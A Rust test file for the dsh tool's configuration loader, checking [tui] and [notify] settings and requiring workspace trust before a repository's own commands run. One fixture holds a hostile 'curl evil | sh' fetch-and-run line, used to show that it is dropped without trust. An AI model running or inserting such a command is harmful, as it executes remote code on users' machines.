//! `[tui]`: `alt_screen` picks the full-screen mode over the inline one (docs/tui.md,
//! "Modes"); a wrong type or an unknown key is named with its key path.

use dsh_config::{Config, ConfigError, Flags, TuiConfig};

fn load(user: &str) -> Result<Config, Vec<ConfigError>> {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir(project.path().join(".git")).unwrap();
    std::fs::write(home.path().join("config.toml"), user).unwrap();
    Config::load(home.path(), project.path(), &|_| None, &Flags::default()).map_err(|e| e.0)
}

#[test]
fn alt_screen_defaults_to_off_and_is_read() {
    assert_eq!(
        load("").unwrap().tui(),
        TuiConfig {
            alt_screen: false,
            notifications: "auto".into(),
            notify_command: Vec::new(),
            status_command: Vec::new(),
        }
    );
    assert!(load("[tui]\nalt_screen = true\n").unwrap().tui().alt_screen);
    assert!(
        !load("[tui]\nalt_screen = false\n")
            .unwrap()
            .tui()
            .alt_screen
    );
}

#[test]
fn bad_tui_values_are_named() {
    for (text, key) in [
        ("[tui]\nalt_screen = \"yes\"\n", "tui.alt_screen"),
        ("[tui]\nalt_screem = true\n", "tui.alt_screem"),
        ("tui = 1\n", "tui"),
        ("[tui]\nnotifications = \"loud\"\n", "tui.notifications"),
        ("[notify]\ncommand = []\n", "notify.command"),
        ("[notify]\ncommand = \"notify-send\"\n", "notify.command"),
        ("[notify]\ncommand = [\"\"]\n", "notify.command"),
        ("[notify]\nprogram = [\"x\"]\n", "notify.program"),
        ("[tui]\nstatus_command = \"x\"\n", "tui.status_command"),
    ] {
        let errors = load(text).unwrap_err();
        let all = format!("{errors:?}");
        assert!(all.contains(key), "{text}: {all}");
    }
}

#[test]
fn notifications_and_the_notify_command_are_read() {
    let tui =
        load("[tui]\nnotifications = \"osc777\"\n[notify]\ncommand = [\"notify-send\", \"dsh\"]\n")
            .unwrap()
            .tui();
    assert_eq!(tui.notifications, "osc777");
    assert_eq!(tui.notify_command, ["notify-send", "dsh"]);
}

/// A repository's own `[notify] command` and `tui.status_command` run a program: without trust
/// they are left out and named.
#[test]
fn a_projects_notify_command_needs_trust() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir(project.path().join(".git")).unwrap();
    std::fs::create_dir(project.path().join(".dsh")).unwrap();
    std::fs::write(
        project.path().join(".dsh/config.toml"),
        "[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n[tui]\nstatus_command = [\"sh\"]\nalt_screen = true\n",
    )
    .unwrap();
    let config = Config::load(home.path(), project.path(), &|_| None, &Flags::default()).unwrap();
    assert!(config.tui().notify_command.is_empty());
    assert!(config.tui().status_command.is_empty());
    // What only narrows or changes the look still applies.
    assert!(config.tui().alt_screen);
    let trusted = Config::load(
        home.path(),
        project.path(),
        &|_| None,
        &Flags {
            trust_workspace: true,
            ..Flags::default()
        },
    )
    .unwrap();
    assert_eq!(trusted.tui().notify_command[0], "sh");
    assert_eq!(trusted.tui().status_command, ["sh"]);
}
